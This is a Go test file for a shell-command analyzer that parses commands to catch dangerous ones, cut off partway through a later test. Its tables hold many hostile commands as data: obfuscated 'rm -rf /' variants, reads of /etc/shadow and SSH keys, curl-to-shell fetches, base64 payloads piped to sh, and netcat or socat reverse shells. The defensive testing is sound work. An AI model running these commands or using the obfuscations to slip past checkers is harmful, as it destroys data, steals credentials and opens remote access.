package shell

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

// TestAnalyzeCommands checks the commands found in each source: structure,
// substitutions, quoting, variables, brace expansion, globs, wrappers,
// shells, interpreters and code kinds. See summary for the format.
func TestAnalyzeCommands(t *testing.T) {
	for _, tt := range analyzeCases {
		s, err := Analyze(tt.src, Limits{})
		if err != nil {
			t.Errorf("Analyze(%q): %v", tt.src, err)
			continue
		}
		got := summaries(s)
		if tt.want == nil {
			tt.want = []string{}
		}
		if !equalSlices(got, tt.want) {
			t.Errorf("Analyze(%q):\n got  %q\n want %q", tt.src, got, tt.want)
		}
	}
}

// analyzeCases are also the fuzzing seed corpus.
var analyzeCases = []struct {
	src  string
	want []string
}{
	{"rm -rf /", []string{"rm -rf /"}},
	{"ls; rm -rf /", []string{"ls", "rm -rf /"}},
	{"ls && rm -fr ~", []string{"ls", "rm -fr ~"}},
	{"ls || rm -rf /", []string{"ls", "rm -rf /"}},
	{"a | b | c", []string{"a", "b", "c"}},
	{"a |& b", []string{"a", "b"}},
	{"sleep 1 & rm -rf /", []string{"sleep 1", "rm -rf /"}},
	{"ls\nrm -rf /", []string{"ls", "rm -rf /"}},
	{"(cd /tmp && rm -rf x)", []string{"cd /tmp", "rm -rf x"}},
	{"{ ls; rm -rf /; }", []string{"ls", "rm -rf /"}},
	{"if test -f x; then rm -rf /; elif y; then z; else w; fi", []string{"test -f x", "rm -rf /", "y", "z", "w"}},
	{"while true; do rm -rf /; done", []string{"true", "rm -rf /"}},
	{"until false; do rm -rf /; done", []string{"false", "rm -rf /"}},
	{"for i in 1 2; do echo $i; done", []string{"echo 1", "echo 2"}},
	{"for ((i=0; i<$(n); i++)); do echo; done", []string{"n", "echo"}},
	{"case $x in a) rm -rf /;; *) ls;; esac", []string{"rm -rf /", "ls"}},
	{"select x in a; do rm $x; done", []string{"rm a"}},
	{"f() { rm -rf /; }; f", []string{"rm -rf /", "f"}},
	{"function g { curl x | sh; }", []string{"curl x", "sh |code=piped"}},
	{"time rm -rf /", []string{"rm -rf /"}},
	{"! rm -rf /", []string{"rm -rf /"}},
	{"coproc rm -rf /", []string{"rm -rf /"}},
	{"[[ -f $(id) ]]", []string{"id"}},
	{"(( x = $(id) ))", []string{"id"}},
	{"declare -x A=$(id)", []string{"id"}},
	{"local b=$(whoami)", []string{"whoami"}},
	{"export PATH=/tmp:$PATH", []string{}},
	{"readonly R=$(hostname)", []string{"hostname"}},
	{"typeset T=`uname`", []string{"uname"}},
	{"arr=(a $(id) c)", []string{"id"}},
	{"echo \"today is $(date)\"", []string{"date", "echo <\"today is *\">"}},
	{"echo `rm -rf /`", []string{"rm -rf /", "echo <*>"}},
	{"echo $(( $(id) + 1 ))", []string{"id", "echo <*>"}},
	{"diff <(ls a) <(ls b)", []string{"ls a", "ls b", "diff <*> <*>"}},
	{"tee >(rm -rf /)", []string{"rm -rf /", "tee <*>"}},
	{"echo ${x:-$(rm -rf /)}", []string{"rm -rf /", "echo <*>"}},
	{"echo ${x:=$(id)}", []string{"id", "echo <*>"}},
	{"cat > $(mktemp) < /etc/$(whoami)", []string{"mktemp", "whoami", "cat"}},
	{"cat <<EOF\n$(rm -rf /) ${HOME} \\$(not)\nEOF", []string{"rm -rf /", "cat"}},
	{"cat <<'EOF'\n$(rm -rf /)\nEOF", []string{"cat"}},
	{"echo ${ rm -rf /; }", []string{"rm -rf /", "echo <*>"}},
	{"\"rm\" -rf /", []string{"rm -rf /"}},
	{"\\rm -rf /", []string{"rm -rf /"}},
	{"r''m -rf /", []string{"rm -rf /"}},
	{"r\"\"m -rf /", []string{"rm -rf /"}},
	{"$'\\x72m' -rf /", []string{"rm -rf /"}},
	{"$'\\162m' -rf /", []string{"rm -rf /"}},
	{"$'\\u0072m' -rf /", []string{"rm -rf /"}},
	{"$'r\\x00junk'm -rf /", []string{"rm -rf /"}},
	{"$\"rm\" -rf /", []string{"rm -rf /"}},
	{"\"r\\m\" x", []string{"r\\m x"}},
	{"r\\\nm -rf /", []string{"rm -rf /"}},
	{"/bin/rm -rf /", []string{"rm -rf /"}},
	{"/usr/bin/env rm -rf /", []string{"env rm -rf /", "rm -rf / |wrap=env"}},
	{"RM -rf /", []string{"rm -rf /"}},
	{"rm.exe -rf /", []string{"rm -rf /"}},
	{"rm \"-rf\" '/'", []string{"rm -rf /"}},
	{"echo \"a\\\"b\\\\c\\$d\\`e\\x\"", []string{"echo \"a\\\"b\\\\c$d`e\\\\x\""}},
	{"echo $'a\\tb\\nc\\d'", []string{"echo \"a\\tb\\nc\\\\d\""}},
	{"a=rm; $a -rf /", []string{"rm -rf /"}},
	{"a=rm; \"$a\" -rf /", []string{"rm -rf /"}},
	{"a=\"rm -rf /\"; $a", []string{"rm -rf /"}},
	{"a=\"rm -rf /\"; \"$a\"", []string{""}},
	{"x=/etc/shadow; cat $x", []string{"cat /etc/shadow"}},
	{"for f in /etc/shadow /tmp/a; do cat $f; done", []string{"cat /etc/shadow", "cat /tmp/a"}},
	{"for f in $(ls); do cat $f; done", []string{"ls", "cat <*>"}},
	{"for f in *.txt; do rm $f; done", []string{"rm <*>"}},
	{"cat $UNKNOWN", []string{"cat <*>"}},
	{"cat \"$HOME/.ssh/id_rsa\" ${HOME}/.aws ~/.kube ~root/x", []string{"cat ~/.ssh/id_rsa ~/.aws ~/.kube <*/x>"}},
	{"HOME=/etc; cat ~/shadow", []string{"cat /etc/shadow"}},
	{"e=; $e rm -rf /", []string{"rm -rf /"}},
	{"IFS=/; x=\"rm/-rf/\"; $x", []string{"rm -rf"}},
	{"a=ls; true && a=rm; $a", []string{"true", "<*>"}},
	{"a=ls; if c; then a=rm; fi; $a", []string{"c", "<*>"}},
	{"for i in 1 2; do $y -rf /; y=rm; done", []string{"<*> -rf /", "<*> -rf /"}},
	{"a=rm; (a=ls); $a -rf /", []string{"rm -rf /"}},
	{"a=rm; echo | a=ls; $a -rf /", []string{"echo", "<*> -rf /"}},
	{"a=ls; f() { a=rm; }; f; $a", []string{"f", "<*>"}},
	{"a=ls; source x; $a", []string{"source x", "<*>"}},
	{"a=ls; eval \"$x\"; $a", []string{"eval <*> |code=dynamic", "<*>"}},
	{"declare -n r=a; a=rm; $r", []string{"<*>"}},
	{"declare -l c; c=RM; $c -RF /", []string{"<*> -RF /"}},
	{"b=rm; a=$b; $a -rf /", []string{"rm -rf /"}},
	{"a=r; a+=m; $a -rf /", []string{"rm -rf /"}},
	{"a=rm; a=ls echo $a", []string{"echo rm"}},
	{"a=rm eval '$a -rf /'", []string{"eval \"$a -rf /\"", "rm -rf / |via=eval |wrap=eval"}},
	{"bash -c '$1 -rf /' _ rm", []string{"bash -c \"$1 -rf /\" _ rm", "rm -rf / |via=bash -c |wrap=bash"}},
	{"sh -c 'rm \"$@\"' _ -rf /", []string{"sh -c \"rm \\\"$@\\\"\" _ -rf /", "rm -rf / |via=sh -c |wrap=sh"}},
	{"x='a[$(rm -rf /)]'; echo $((x))", []string{"rm -rf / |via=arithmetic", "echo <*>"}},
	{"x='a[$(rm -rf /)]'; [[ $x -eq 1 ]]", []string{"rm -rf / |via=arithmetic"}},
	{"read 'a[$(rm -rf /)]'", []string{"read \"a[$(rm -rf /)]\"", "rm -rf / |via=subscript"}},
	{"printf -v 'a[$(id)]' x", []string{"printf -v a[$(id)] x", "id |via=subscript"}},
	{"cat /etc/{shadow,passwd}", []string{"cat /etc/shadow /etc/passwd"}},
	{"{rm,-rf,/}", []string{"rm -rf /"}},
	{"echo {1..3} {a..c} {01..03}", []string{"echo 1 2 3 a b c 01 02 03"}},
	{"echo \\{a,b\\} '{a,b}' {a}", []string{"echo {a,b} {a,b} {a}"}},
	{"/bin/r? x", []string{"</bin/r?> x"}},
	{"/???/r? x", []string{"</???/r?> x"}},
	{"rm *.go 'a*' \"b?\" c\\*", []string{"rm *.go a* b? c*"}},
	{"ls *(e:'rm -rf /':)", []string{"ls <*> |code=inline"}},
	{"sudo rm -rf /", []string{"sudo rm -rf /", "rm -rf / |wrap=sudo"}},
	{"sudo -u root -g wheel rm -rf /", []string{"sudo -u root -g wheel rm -rf /", "rm -rf / |wrap=sudo"}},
	{"sudo -E -- rm -rf /", []string{"sudo -E -- rm -rf /", "rm -rf / |wrap=sudo"}},
	{"sudo FOO=1 rm -rf /", []string{"sudo FOO=1 rm -rf /", "rm -rf / |wrap=sudo"}},
	{"sudo -s 'rm -rf /'", []string{"sudo -s \"rm -rf /\"", "rm -rf / |via=sudo -s |wrap=sudo"}},
	{"sudo -i rm -rf /", []string{"sudo -i rm -rf /", "rm -rf / |via=sudo -i |wrap=sudo"}},
	{"sudo -s", []string{"sudo -s"}},
	{"sudo -Z x rm -rf /", []string{"sudo -Z x rm -rf /", "x rm -rf / |wrap=sudo", "rm -rf / |wrap=sudo"}},
	{"doas -u root rm -rf /", []string{"doas -u root rm -rf /", "rm -rf / |wrap=doas"}},
	{"env rm -rf /", []string{"env rm -rf /", "rm -rf / |wrap=env"}},
	{"env -i -u X -C /tmp FOO=bar rm -rf /", []string{"env -i -u X -C /tmp FOO=bar rm -rf /", "rm -rf / |wrap=env"}},
	// GNU env stops at the first operand: "-u" after an assignment is the command.
	{"env FOO=bar -u X rm", []string{"env FOO=bar -u X rm", "-u X rm |wrap=env"}},
	{"env -S 'rm -rf /'", []string{"env -S \"rm -rf /\"", "env rm -rf / |via=env -S |wrap=env", "rm -rf / |via=env -S |wrap=env,env"}},
	{"env", []string{"env"}},
	{"command rm -rf /", []string{"command rm -rf /", "rm -rf / |wrap=command"}},
	{"command -v rm", []string{"command -v rm"}},
	{"command -V rm", []string{"command -V rm"}},
	{"builtin eval 'rm -rf /'", []string{"builtin eval \"rm -rf /\"", "eval \"rm -rf /\" |wrap=builtin", "rm -rf / |via=eval |wrap=builtin,eval"}},
	{"exec -a name rm -rf /", []string{"exec -a name rm -rf /", "rm -rf / |wrap=exec"}},
	{"exec > /tmp/log", []string{"exec"}},
	{"nohup rm -rf / &", []string{"nohup rm -rf /", "rm -rf / |wrap=nohup"}},
	{"timeout -s KILL 10 rm -rf /", []string{"timeout -s KILL 10 rm -rf /", "rm -rf / |wrap=timeout"}},
	{"timeout 5s rm -rf /", []string{"timeout 5s rm -rf /", "rm -rf / |wrap=timeout"}},
	{"nice -n 10 rm -rf /", []string{"nice -n 10 rm -rf /", "rm -rf / |wrap=nice"}},
	{"nice -10 rm -rf /", []string{"nice -10 rm -rf /", "rm -rf / |wrap=nice"}},
	{"ionice -c 3 rm -rf /", []string{"ionice -c 3 rm -rf /", "rm -rf / |wrap=ionice"}},
	{"command time -p rm -rf /", []string{"command time -p rm -rf /", "time -p rm -rf / |wrap=command", "rm -rf / |wrap=command,time"}},
	{"stdbuf -o L rm -rf /", []string{"stdbuf -o L rm -rf /", "rm -rf / |wrap=stdbuf"}},
	{"setsid -f rm -rf /", []string{"setsid -f rm -rf /", "rm -rf / |wrap=setsid"}},
	{"unbuffer rm -rf /", []string{"unbuffer rm -rf /", "rm -rf / |wrap=unbuffer"}},
	{"chroot /mnt rm -rf /", []string{"chroot /mnt rm -rf /", "rm -rf / |wrap=chroot"}},
	{"chroot /mnt", []string{"chroot /mnt"}},
	{"flock /tmp/l rm -rf /", []string{"flock /tmp/l rm -rf /", "rm -rf / |wrap=flock"}},
	{"flock -w 5 /tmp/l -c 'rm -rf /'", []string{"flock -w 5 /tmp/l -c \"rm -rf /\"", "rm -rf / |via=flock -c |wrap=flock"}},
	{"xargs rm", []string{"xargs rm", "rm <*> |via=xargs |wrap=xargs"}},
	{"xargs -0 -n 1 -P 4 rm -rf", []string{"xargs -0 -n 1 -P 4 rm -rf", "rm -rf <*> |via=xargs |wrap=xargs"}},
	{"xargs -I {} rm {}", []string{"xargs -I {} rm {}", "rm <*> |via=xargs |wrap=xargs"}},
	{"xargs -I{} sh -c 'rm {}'", []string{"xargs -I{} sh -c \"rm {}\"", "sh -c <\"rm *\"> |via=xargs |code=dynamic |wrap=xargs"}},
	{"xargs", []string{"xargs", "echo <*> |via=xargs |wrap=xargs"}},
	{"find . -name '*.tmp' -exec rm -f {} \\;", []string{"find . -name *.tmp -exec rm -f {} ;", "rm -f <*> |via=find -exec |wrap=find"}},
	{"find . -type f -execdir chmod 777 {} +", []string{"find . -type f -execdir chmod 777 {} +", "chmod 777 <*> |via=find -execdir |wrap=find"}},
	{"find ~ -delete", []string{"find ~ -delete", "rm -rf ~ |via=find -delete |wrap=find"}},
	{"find /tmp /var -name x -delete", []string{"find /tmp /var -name x -delete", "rm -rf /tmp /var |via=find -delete |wrap=find"}},
	{"find . -fprint /etc/passwd", []string{"find . -fprint /etc/passwd"}},
	{"find . -ok rm {} \\;", []string{"find . -ok rm {} ;", "rm <*> |via=find -ok |wrap=find"}},
	{"watch -n 1 'rm -rf /'", []string{"watch -n 1 \"rm -rf /\"", "rm -rf / |via=watch |wrap=watch"}},
	{"watch -x rm -rf /", []string{"watch -x rm -rf /", "rm -rf / |via=watch |wrap=watch"}},
	{"su - root -c 'rm -rf /'", []string{"su - root -c \"rm -rf /\"", "rm -rf / |via=su -c |wrap=su"}},
	{"su -c 'rm -rf /' bob", []string{"su -c \"rm -rf /\" bob", "rm -rf / |via=su -c |wrap=su"}},
	{"su", []string{"su"}},
	{"runuser -u bob -- rm -rf /", []string{"runuser -u bob -- rm -rf /", "rm -rf / |wrap=runuser"}},
	{"ssh host rm -rf /", []string{"ssh host rm -rf /", "rm -rf / |via=ssh |wrap=ssh"}},
	{"ssh -p 22 -i key host 'rm -rf /; ls'", []string{"ssh -p 22 -i key host \"rm -rf /; ls\"", "rm -rf / |via=ssh |wrap=ssh", "ls |via=ssh |wrap=ssh"}},
	{"ssh -o ProxyCommand='sh -c id' host", []string{"ssh -o \"ProxyCommand=sh -c id\" host", "sh -c id |via=ssh -o ProxyCommand |wrap=ssh", "id |via=sh -c |wrap=ssh,sh"}},
	{"script -qc 'rm -rf /' /dev/null", []string{"script -qc \"rm -rf /\" /dev/null", "rm -rf / |via=script -c |wrap=script"}},
	{"busybox rm -rf /", []string{"busybox rm -rf /", "rm -rf / |wrap=busybox"}},
	{"busybox sh -c 'rm -rf /'", []string{"busybox sh -c \"rm -rf /\"", "sh -c \"rm -rf /\" |wrap=busybox", "rm -rf / |via=sh -c |wrap=busybox,sh"}},
	{"parallel rm {} ::: a b", []string{"parallel rm {} ::: a b", "rm {} |via=parallel |wrap=parallel"}},
	{"parallel ::: 'rm -rf /' ls", []string{"parallel ::: \"rm -rf /\" ls", "rm -rf / |via=parallel |wrap=parallel", "ls |via=parallel |wrap=parallel"}},
	{"sg wheel -c 'rm -rf /'", []string{"sg wheel -c \"rm -rf /\"", "rm -rf / |via=sg |wrap=sg"}},
	{"bash -c 'rm -rf /'", []string{"bash -c \"rm -rf /\"", "rm -rf / |via=bash -c |wrap=bash"}},
	{"sh -lc 'rm -rf /'", []string{"sh -lc \"rm -rf /\"", "rm -rf / |via=sh -c |wrap=sh"}},
	{"bash -xec 'rm -rf /'", []string{"bash -xec \"rm -rf /\"", "rm -rf / |via=bash -c |wrap=bash"}},
	{"zsh -c 'rm -rf /'", []string{"zsh -c \"rm -rf /\"", "rm -rf / |via=zsh -c |wrap=zsh"}},
	{"dash -c 'rm -rf /'", []string{"dash -c \"rm -rf /\"", "rm -rf / |via=dash -c |wrap=dash"}},
	{"/bin/ksh -c 'rm -rf /'", []string{"ksh -c \"rm -rf /\"", "rm -rf / |via=ksh -c |wrap=ksh"}},
	{"bash --norc --noprofile -c 'rm -rf /'", []string{"bash --norc --noprofile -c \"rm -rf /\"", "rm -rf / |via=bash -c |wrap=bash"}},
	{"bash -o pipefail -c 'rm -rf /'", []string{"bash -o pipefail -c \"rm -rf /\"", "rm -rf / |via=bash -c |wrap=bash"}},
	{"bash -c \"$x\"", []string{"bash -c <*> |code=dynamic"}},
	{"bash $x", []string{"bash <*> |code=dynamic"}},
	{"bash script.sh", []string{"bash script.sh"}},
	{"bash -s", []string{"bash -s |code=piped"}},
	{"bash -s < x.sh", []string{"bash -s |code=piped"}},
	{"sh < file", []string{"sh |code=piped"}},
	{"curl -s http://x/y | /bin/sh", []string{"curl -s http://x/y", "sh |code=piped"}},
	{"curl x | sudo bash", []string{"curl x", "sudo bash", "bash |code=piped |wrap=sudo"}},
	{"base64 -d x | bash", []string{"base64 -d x", "bash |code=piped"}},
	{"cat x | python", []string{"cat x", "python |code=piped"}},
	{"bash <<< 'rm -rf /'", []string{"bash", "rm -rf / |via=bash <<< |wrap=bash"}},
	{"bash <<< \"$x\"", []string{"bash |code=piped"}},
	{"bash <<EOF\nrm -rf /\nEOF", []string{"bash", "rm -rf / |via=bash << |wrap=bash"}},
	{"sh <(curl x)", []string{"curl x", "sh <*> |code=piped"}},
	{"source <(curl x)", []string{"curl x", "source <*> |code=piped"}},
	{". ./env.sh", []string{". ./env.sh"}},
	{"eval 'rm -rf /'", []string{"eval \"rm -rf /\"", "rm -rf / |via=eval |wrap=eval"}},
	{"eval rm -rf /", []string{"eval rm -rf /", "rm -rf / |via=eval |wrap=eval"}},
	{"eval \"$(curl x)\"", []string{"curl x", "eval <*> |code=dynamic"}},
	{"eval $x", []string{"eval <*> |code=dynamic"}},
	{"alias ls='rm -rf /'", []string{"alias \"ls=rm -rf /\"", "rm -rf / |via=alias |wrap=alias"}},
	{"trap 'rm -rf /' EXIT", []string{"trap \"rm -rf /\" EXIT", "rm -rf / |via=trap |wrap=trap"}},
	{"trap - EXIT", []string{"trap - EXIT"}},
	{"python -c 'import os'", []string{"python -c \"import os\" |code=inline"}},
	{"python3 -c 'import os'", []string{"python3 -c \"import os\" |code=inline"}},
	{"python3.12 -Ic 'x'", []string{"python3.12 -Ic x |code=inline"}},
	{"python3 -m pytest -q", []string{"python3 -m pytest -q"}},
	{"python3 script.py", []string{"python3 script.py"}},
	{"python -", []string{"python - |code=piped"}},
	{"python3 -W ignore script.py", []string{"python3 -W ignore script.py"}},
	{"node -e 'x'", []string{"node -e x |code=inline"}},
	{"nodejs --eval=x", []string{"nodejs --eval=x |code=inline"}},
	{"node -p 1", []string{"node -p 1 |code=inline"}},
	{"node app.js", []string{"node app.js"}},
	{"perl -e 'x'", []string{"perl -e x |code=inline"}},
	{"perl -ne 'print' f", []string{"perl -ne print f |code=inline"}},
	{"perl -E 'say 1'", []string{"perl -E \"say 1\" |code=inline"}},
	{"perl script.pl", []string{"perl script.pl"}},
	{"ruby -e 'x'", []string{"ruby -e x |code=inline"}},
	{"php -r 'x'", []string{"php -r x |code=inline"}},
	{"php index.php", []string{"php index.php"}},
	{"lua -e 'x'", []string{"lua -e x |code=inline"}},
	{"pwsh -Command 'Remove-Item x'", []string{"pwsh -Command \"Remove-Item x\" |code=inline"}},
	{"pwsh -c 'x'", []string{"pwsh -c x |code=inline"}},
	{"powershell -EncodedCommand AAAA", []string{"powershell -EncodedCommand AAAA |code=inline"}},
	{"pwsh ./x.ps1", []string{"pwsh ./x.ps1"}},
	{"powershell 'Get-Process'", []string{"powershell Get-Process |code=inline"}},
	{"osascript -e 'do shell script \"rm\"'", []string{"osascript -e \"do shell script \\\"rm\\\"\" |code=inline"}},
	{"Rscript -e 'x'", []string{"rscript -e x |code=inline"}},
	{"deno eval 'x'", []string{"deno eval x |code=inline"}},
	{"deno run app.ts", []string{"deno run app.ts"}},
	{"bun -e 'x'", []string{"bun -e x |code=inline"}},
	{"awk '{print $1}' f", []string{"awk \"{print $1}\" f"}},
	{"awk '{system(\"rm -rf /\")}' f", []string{"awk \"{system(\\\"rm -rf /\\\")}\" f |code=inline"}},
	{"awk '{print | \"sh\"}'", []string{"awk \"{print | \\\"sh\\\"}\" |code=inline"}},
	{"awk 'BEGIN { \"date\" | getline d }'", []string{"awk \"BEGIN { \\\"date\\\" | getline d }\" |code=inline"}},
	{"awk '/a|b/ { print }' f", []string{"awk \"/a|b/ { print }\" f"}},
	{"awk -F'|' '{print $1 \"|\" $2}'", []string{"awk -F| \"{print $1 \\\"|\\\" $2}\""}},
	{"awk -f prog.awk f", []string{"awk -f prog.awk f"}},
	{"gawk -e 'BEGIN{system(\"id\")}'", []string{"gawk -e \"BEGIN{system(\\\"id\\\")}\" |code=inline"}},
	{"awk \"$prog\"", []string{"awk <*> |code=dynamic"}},
	{"sed -n '1,20p' f", []string{"sed -n 1,20p f"}},
	{"sed 's/a/b/e' f", []string{"sed s/a/b/e f |code=inline"}},
	{"sed -e '1e id' f", []string{"sed -e \"1e id\" f |code=inline"}},
	{"sed -i 's|a|b|g' f", []string{"sed -i s|a|b|g f"}},
	{"sed -f script.sed f", []string{"sed -f script.sed f"}},
	{"sed \"s/x/$y/\" f", []string{"sed <s/x/*/> f |code=dynamic"}},
	{"tar --to-command='sh -c id' -xf a.tar", []string{"tar \"--to-command=sh -c id\" -xf a.tar", "sh -c id |via=tar --to-command |wrap=tar", "id |via=sh -c |wrap=tar,sh"}},
	{"rsync -e 'ssh -p 2' a host:b", []string{"rsync -e \"ssh -p 2\" a host:b", "ssh -p 2 |via=rsync -e |wrap=rsync"}},
	{"git -c core.pager='less; rm -rf /' log", []string{"git -c \"core.pager=less; rm -rf /\" log", "less |via=git -c core.pager |wrap=git", "rm -rf / |via=git -c core.pager |wrap=git"}},
	{"git -c alias.x='!rm -rf /' x", []string{"git -c \"alias.x=!rm -rf /\" x", "rm -rf / |via=git -c alias.x |wrap=git"}},
	{"GIT_SSH_COMMAND='rm -rf /' git fetch", []string{"git fetch", "rm -rf / |via=GIT_SSH_COMMAND= |wrap=git"}},
	{"vim -c ':!rm -rf /' x", []string{"vim -c \":!rm -rf /\" x |code=inline"}},
	{"rm -rf ${HOME:?}/", []string{"rm -rf ~/"}},
	{"x=/tmp; rm -rf ${x:+/etc} ${x:-/var} ${y:-/z}", []string{"rm -rf /etc /tmp <*>"}},
	{"git config --global alias.x '!rm -rf /'", []string{"git config --global alias.x \"!rm -rf /\"", "rm -rf / |via=git config alias.x |wrap=git"}},
	{"nc -e /bin/sh 1.2.3.4 4444", []string{"nc -e /bin/sh 1.2.3.4 4444", "sh |via=nc -e |code=piped |wrap=nc"}},
	{"nc -lvpe /bin/bash 4444", []string{"nc -lvpe /bin/bash 4444", "bash |via=nc -e |code=piped |wrap=nc"}},
	{"ncat --sh-exec 'rm -rf /' -l 80", []string{"ncat --sh-exec \"rm -rf /\" -l 80", "rm -rf / |via=ncat -c |wrap=ncat"}},
	{"socat TCP:h:80 EXEC:'bash -li',pty", []string{"socat TCP:h:80 \"EXEC:bash -li,pty\"", "bash -li |via=socat exec |code=piped |wrap=socat"}},
	{"socat - SYSTEM:'rm -rf /'", []string{"socat - \"SYSTEM:rm -rf /\"", "rm -rf / |via=socat system |wrap=socat"}},
	{"tmux new -d 'rm -rf /'", []string{"tmux new -d \"rm -rf /\"", "rm -rf / |via=tmux new |wrap=tmux"}},
	{"tmux new-session -d -s x 'rm -rf /'", []string{"tmux new-session -d -s x \"rm -rf /\"", "rm -rf / |via=tmux new-session |wrap=tmux"}},
	{"tmux send-keys 'rm -rf /' Enter", []string{"tmux send-keys \"rm -rf /\" Enter |code=inline"}},
	{"screen -dmS x rm -rf /", []string{"screen -dmS x rm -rf /", "rm -rf / |via=screen |wrap=screen"}},
	{"screen -S x -X stuff 'rm -rf /'", []string{"screen -S x -X stuff \"rm -rf /\" |code=inline"}},
	{"bash /dev/stdin <<< 'rm -rf /'", []string{"bash /dev/stdin", "rm -rf / |via=bash <<< |wrap=bash"}},
	{"exec 3<<<'rm -rf /'; bash <&3", []string{"exec", "bash |code=piped"}},
	{"read -r c <<< rm; $c -rf /", []string{"read -r c", "<*> -rf /"}},
	{"printf -v c rm; $c -rf /", []string{"printf -v c rm", "<*> -rf /"}},
	{"cmd=(rm -rf /); \"${cmd[@]}\"", []string{"<*>"}},
	{"find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", []string{"find . -exec sh -c \"rm -rf \\\"$1\\\"\" _ {} ;", "sh -c \"rm -rf \\\"$1\\\"\" _ <*> |via=find -exec |wrap=find", "rm -rf <*> |via=sh -c |wrap=find,sh"}},
	{"{\"rm\",-rf,/}", []string{"rm -rf /"}},
	{"echo cm0gLXJmIC8K | base64 -d | sh", []string{"echo cm0gLXJmIC8K", "base64 -d", "sh |code=piped"}},
	{"poetry run rm -rf /", []string{"poetry run rm -rf /", "rm -rf / |wrap=poetry"}},
	{"uv run --with x python -c 1", []string{"uv run --with x python -c 1", "python -c 1 |code=inline |wrap=uv"}},
	{"bundle exec rm -rf /", []string{"bundle exec rm -rf /", "rm -rf / |wrap=bundle"}},
	{"npx rm -rf /", []string{"npx rm -rf /", "rm -rf / |wrap=npx"}},
	{"npm exec -- rm -rf /", []string{"npm exec -- rm -rf /", "rm -rf / |wrap=npm"}},
	{"kubectl -n prod exec pod -- rm -rf /", []string{"kubectl -n prod exec pod -- rm -rf /", "rm -rf / |via=kubectl exec |wrap=kubectl"}},
	{"kubectl get pods", []string{"kubectl get pods"}},
	{"docker exec -e A=1 -u root c sh -c 'rm -rf /'", []string{"docker exec -e A=1 -u root c sh -c \"rm -rf /\"", "sh -c \"rm -rf /\" |via=docker exec |wrap=docker", "rm -rf / |via=sh -c |wrap=docker,sh"}},
	{"docker ps -a", []string{"docker ps -a"}},
	{"nix-shell --run 'rm -rf /'", []string{"nix-shell --run \"rm -rf /\"", "rm -rf / |via=nix-shell --run |wrap=nix-shell"}},
	{"hyperfine -w 3 'rm -rf /'", []string{"hyperfine -w 3 \"rm -rf /\"", "rm -rf / |via=hyperfine |wrap=hyperfine"}},
	{"watchexec -e go -- rm -rf /", []string{"watchexec -e go -- rm -rf /", "rm -rf / |via=watchexec |wrap=watchexec"}},
	{"numactl -N 0 -m 0 rm -rf /", []string{"numactl -N 0 -m 0 rm -rf /", "rm -rf / |wrap=numactl"}},
	{"tini -- rm -rf /", []string{"tini -- rm -rf /", "rm -rf / |wrap=tini"}},
	{"aws-vault exec prod -- rm -rf /", []string{"aws-vault exec prod -- rm -rf /", "rm -rf / |wrap=aws-vault"}},
	{"nodemon --exec 'rm -rf /'", []string{"nodemon --exec \"rm -rf /\"", "rm -rf / |via=nodemon --exec |wrap=nodemon"}},
	{"nohup0 x", []string{"nohup0 x"}},
	{"python3.12 -c x; bash5 -c ls", []string{"python3.12 -c x |code=inline", "bash5 -c ls", "ls |via=bash5 -c |wrap=bash5"}},
	{"echo rm -rf /", []string{"echo rm -rf /"}},
	{"grep -rn \"rm -rf\" docs/", []string{"grep -rn \"rm -rf\" docs/"}},
	{"git commit -m \"docs: warn against rm -rf\"", []string{"git commit -m \"docs: warn against rm -rf\""}},
}

// TestFlags checks flag normalization and positionals, per program.
func TestFlags(t *testing.T) {
	tests := []struct {
		src   string
		cmd   int // index in Commands
		flags string
		pos   string
	}{
		{"rm -rf /", 0, "f r", "/"},
		{"rm -r -f /", 0, "f r", "/"},
		{"rm -fr /", 0, "f r", "/"},
		{"rm -R -f /", 0, "f r", "/"},
		{"rm --recursive --force /", 0, "f r", "/"},
		{"rm \"-rf\" '/'", 0, "f r", "/"},
		{"rm x -rf y", 0, "f r", "x y"},
		{"rm -- -rf", 0, "", "-rf"},
		{"rm -r a -- -f", 0, "r", "a -f"},
		{"rm --interactive=never -d x", 0, "d i", "x"},
		{"cp -R a b", 0, "r", "a b"},
		{"cp --recursive --force a b", 0, "f r", "a b"},
		{"cp -a a b", 0, "a r", "a b"},
		{"mv --force a b", 0, "f", "a b"},
		{"chmod 777 x", 0, "", "777 x"},
		{"chmod -R 777 /", 0, "R", "777 /"},
		{"chmod --recursive 777 /", 0, "R", "777 /"},
		{"chmod -w x", 0, "", "-w x"},
		{"chmod -R go-w x", 0, "R", "go-w x"},
		{"chown -R root:root /", 0, "R", "root:root /"},
		{"git push --force origin main", 0, "f", "push origin main"},
		{"git push -f", 0, "f", "push"},
		{"git push origin +main", 0, "f", "push origin +main"},
		{"git push --force-with-lease", 0, "force-with-lease", "push"},
		{"kubectl delete pod x --force", 0, "force", "delete pod x"},
		{"kubectl apply -f x.yaml", 0, "f", "apply x.yaml"},
		{"docker rm --force c", 0, "f", "rm c"},
		{"find . -name x -delete", 0, "delete name", ". x"},
		{"head -20 f", 0, "20", "f"},
		{"grep --color=auto -n x", 0, "color n", "x"},
		{"ls -la", 0, "a l", ""},
		{"ls $x", 0, "", "*"},
		{"sudo -u root rm -rf /", 0, "u", "root rm -rf /"},
		{"sudo -u root rm -rf /", 1, "f r", "/"},
		{"xargs -0 rm -f", 0, "0", "rm -f"},
		{"env -i FOO=1 rm", 0, "i", "FOO=1 rm"},
	}
	for _, tt := range tests {
		s := mustAnalyze(t, tt.src)
		if tt.cmd >= len(s.Commands) {
			t.Errorf("%q: no command %d", tt.src, tt.cmd)
			continue
		}
		c := s.Commands[tt.cmd]
		var pos []string
		for _, w := range c.Positionals {
			pos = append(pos, w.Value)
		}
		if got := strings.Join(c.Flags, " "); got != tt.flags {
			t.Errorf("%q: flags %q, want %q", tt.src, got, tt.flags)
		}
		if got := strings.Join(pos, " "); got != tt.pos {
			t.Errorf("%q: positionals %q, want %q", tt.src, got, tt.pos)
		}
	}
}

// TestWords checks Word values, dynamic marks, globs and patterns.
func TestWords(t *testing.T) {
	tests := []struct {
		src     string
		arg     int // index in Commands[last].Args
		value   string
		dynamic bool
		glob    bool
		pattern string
	}{
		{"cat /etc/shadow", 0, "/etc/shadow", false, false, "/etc/shadow"},
		{"cat $HOME/.ssh/id_rsa", 0, "~/.ssh/id_rsa", false, false, "~/.ssh/id_rsa"},
		{"cat ${HOME}/.ssh", 0, "~/.ssh", false, false, "~/.ssh"},
		{"cat ~/.ssh", 0, "~/.ssh", false, false, "~/.ssh"},
		{"cat ~", 0, "~", false, false, "~"},
